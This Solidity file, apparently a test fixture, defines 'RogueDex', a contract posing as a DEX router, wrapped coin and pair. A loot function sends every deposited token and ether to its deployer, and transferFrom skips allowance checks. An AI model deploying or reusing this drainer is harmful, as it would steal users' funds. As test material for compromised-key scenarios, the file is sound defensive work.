// SPDX-License-Identifier: MIT
pragma solidity ^0.8.37;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";

/// @notice Router, wrapped coin, pair factory and pair in one, as a thief of the platform's key would list it: all that is
/// paid into it is the thief's.
contract RogueDex {
    address private immutable THIEF = msg.sender;
    // A router's own spelling.
    // forge-lint: disable-next-line(mixed-case-variable)
    address public WETH;
    address public token0;
    address public token1;
    mapping(address account => uint256) public balanceOf;
    mapping(address owner => mapping(address spender => uint256)) public allowance;
    uint256 public totalSupply;

    constructor(address wrapped) {
        WETH = wrapped == address(0) ? address(this) : wrapped;
    }

    function factory() external view returns (address) {
        return address(this);
    }

    function getPair(address one, address two) external view returns (address) {
        return token0 == one || token0 == two ? address(this) : address(0);
    }

    function createPair(address one, address two) external returns (address) {
        (token0, token1) = one < two ? (one, two) : (two, one);
        return address(this);
    }

    /// @dev A pair that says what its caller wants to read.
    function getReserves() external view returns (uint112, uint112, uint32) {
        return (
            uint112(IERC20(token0).balanceOf(address(this))),
            uint112(IERC20(token1).balanceOf(address(this))),
            0
        );
    }

    function mint(address to) external returns (uint256) {
        balanceOf[to] = totalSupply = 1e18;
        return 1e18;
    }

    function skim(address) external {}

    function sync() external {}

    function swap(uint256 out0, uint256 out1, address to, bytes calldata) external {
        if (out0 != 0) IERC20(token0).transfer(to, out0);
        if (out1 != 0) IERC20(token1).transfer(to, out1);
    }

    function deposit() external payable {
        balanceOf[msg.sender] += msg.value;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function loot(address token) external {
        IERC20(token).transfer(THIEF, IERC20(token).balanceOf(address(this)));
        payable(THIEF).transfer(address(this).balance);
    }
}
